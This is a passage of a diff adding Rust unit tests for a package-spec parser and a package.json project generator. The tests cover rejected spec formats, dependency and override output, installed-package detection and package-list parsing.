+            "github:user/my-lib/extra",
+            "github:/my-lib",
+            "git+https://github.com",
+            "git+https://github.com/user/.git",
+            "git+file:///etc/my-lib",
+            "git+ssh://git@github.com/user/my-lib.git",
+            "github:user/my lib",
+        ] {
+            assert!(PackageSpec::parse(spec).is_err(), "{}", spec);
+        }
+    }
+
+    #[test]
+    fn project_package_json() {
+        let (_temp_dir, path) = create_project(
+            &specs(&["react", "@loadable/component", "github:user/my-lib#esm"]),
+            &serde_json::Map::new(),
+            None,
+        )
+        .unwrap();
+        let package_json: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(path.join("package.json")).unwrap())
+                .unwrap();
+        assert_eq!(
+            package_json["dependencies"],
+            serde_json::json!({
+                "react": "latest",
+                "@loadable/component": "latest",
+                "my-lib": "github:user/my-lib#esm"
+            })
+        );
+        assert_eq!(package_json.get("scripts"), None);
+        assert_eq!(package_json.get("overrides"), None);
+    }
+
+    #[test]
+    fn project_overrides() {
+        let overrides = serde_json::json!({
+            "react-is": "16.13.1",
+            "@loadable/component": { "hoist-non-react-statics": "3.3.0" }
+        });
+        let (_temp_dir, path) = create_project(
+            &specs(&["@loadable/component"]),
+            overrides.as_object().unwrap(),
+            None,
+        )
+        .unwrap();
+        let package_json: serde_json::Value =
+            serde_json::from_str(&std::fs::read_to_string(path.join("package.json")).unwrap())
+                .unwrap();
+        assert_eq!(package_json["overrides"], overrides);
+    }
+
+    #[test]
+    fn installed_packages() {
+        let packages = ["react".to_string(), "@loadable/component".to_string()];
+        let (_temp_dir, path) = create_project(
+            &specs(&["react", "@loadable/component"]),
+            &Default::default(),
+            None,
+        )
+        .unwrap();
+        assert!(!is_installed(&path, &packages));
+
+        for name in &packages {
+            let package_dir = path.join("node_modules").join(name);
+            std::fs::create_dir_all(&package_dir).unwrap();
+            std::fs::write(package_dir.join("package.json"), "{}").unwrap();
+        }
+        assert!(is_installed(&path, &packages));
+    }
+
+    #[test]
+    fn package_list() {
+        assert_eq!(
+            parse_package_list("react\n\n# comment\n  @loadable/component  \nscreenfull"),
+            vec!["react", "@loadable/component", "screenfull"]
+        );
+    }
 }
 
 // #[cfg(test)]